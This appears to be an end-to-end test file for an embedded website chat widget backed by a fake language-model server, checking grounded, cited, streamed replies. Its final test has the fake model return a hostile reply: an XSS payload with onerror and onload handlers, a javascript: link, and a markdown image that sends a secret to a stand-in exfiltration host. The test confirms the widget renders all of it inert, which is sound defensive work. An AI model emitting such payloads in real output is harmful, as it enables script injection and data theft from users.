import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import {
  startFakeLlmServer,
  startFixtureSite,
  type FakeLlmServer,
  type FixtureSite,
} from '@sitesage/testing';
import { startLocalStack, type LocalStack } from '../src/index.js';
import { createTrainedAgent, type TrainedAgent } from './agent-setup.js';
import { launchBrowser } from './browser.js';
import { chatFrame, replyArrives } from './chat-frame.js';
import { startCustomerPage, type CustomerPage } from './customer-page.js';
import { registerOwner } from './owner.js';

// The same visitor journey with a language model configured: an OpenAI-compatible server (a local
// fake speaking the real streaming protocol) writes the replies from the passages it is given.

const groundedReply =
  'You can return **unused gear** within 60 days for a full refund [1]. Start the return from your order confirmation email.';

let site: FixtureSite;
let llm: FakeLlmServer;
let stack: LocalStack;
let customer: CustomerPage;
let browser: Browser;
let page: Page;
let agent: TrainedAgent;

beforeAll(async () => {
  site = await startFixtureSite({ pages: 20 });
  // The owner's own site (where the embed code goes) is a second origin; the shop's pages come from
  // the fixture site. Both are on loopback, which the egress rules refuse unless named.
  customer = await startCustomerPage();
  llm = await startFakeLlmServer({ reply: groundedReply, tokenDelayMs: 15 });
  stack = await startLocalStack({
    CRAWL_ALLOW_HOSTS: `${site.host},${customer.host}`,
    LLM_PROVIDER: 'openai-compatible',
    LLM_BASE_URL: llm.url,
    LLM_MODEL: 'local-test-model',
  });
  agent = await createTrainedAgent(stack, await registerOwner(stack), site, customer.origin);
  customer.embed(stack.baseUrl, agent.slug);
  browser = await launchBrowser();
  page = await browser.newPage({ viewport: { width: 1280, height: 800 } });
  await page.goto(customer.url);
  await page.getByRole('button', { name: 'Chat' }).click();
});

afterAll(async () => {
  await browser.close();
  await customer.stop();
  await stack.stop();
  await llm.close();
  await site.close();
});

const { chat, lastReply, ask } = chatFrame(() => page);

describe('the embedded chat with a language model', () => {
  it("streams the model's grounded reply, rendered as text with the cited page linked", async () => {
    await expect.poll(() => chat().getByLabel('Type your message').isVisible(), replyArrives).toBe(true);
    await ask('What is your return policy for unused gear?');
    await expect
      .poll(() => lastReply().innerText(), replyArrives)
      .toContain('within 60 days for a full refund');
    // Markdown emphasis is rendered as an element, not shown as asterisks.
    expect(await lastReply().locator('strong').innerText()).toBe('unused gear');
    expect(await lastReply().getByRole('link').first().getAttribute('href')).toBe(
      `${site.origin}/help/returns`,
    );

    // The model was asked once, streaming, with the question and the returns page among its passages.
    const asked = llm.requests.filter((request) => request.stream);
    expect(asked).toHaveLength(1);
    expect(asked[0]?.promptText).toContain('What is your return policy for unused gear?');
    expect(asked[0]?.promptText).toContain('returned within 60 days');
  });

  it('rewrites a follow-up into a standalone question using the conversation kept on the server', async () => {
    await ask('and how do I start one?');
    await expect.poll(() => lastReply().innerText(), replyArrives).toContain('order confirmation email');
    const rewrite = llm.requests.find((request) => !request.stream);
    expect(rewrite?.promptText).toContain('What is your return policy for unused gear?');
    expect(rewrite?.promptText).toContain('and how do I start one?');
  });

  it('keeps a hostile reply inert: no image, no handler, no script runs (F1, F3)', async () => {
    llm.setMode({
      kind: 'xss',
      payload:
        '<img src=x onerror="window.__x=1"> ![x](http://exfil.test/?q=secret) [click](javascript:window.__x=2) <svg onload="window.__x=3">',
    });
    await ask('Tell me about tents');
    await expect.poll(() => lastReply().innerText(), replyArrives).toContain('<img src=x');
    expect(await lastReply().locator('img, svg, iframe').count()).toBe(0);
    const frame = page.frames().find((candidate) => candidate.url().includes('/bot/'));
    expect(await frame?.evaluate(() => (globalThis as unknown as { __x?: number }).__x)).toBeUndefined();
  });
});
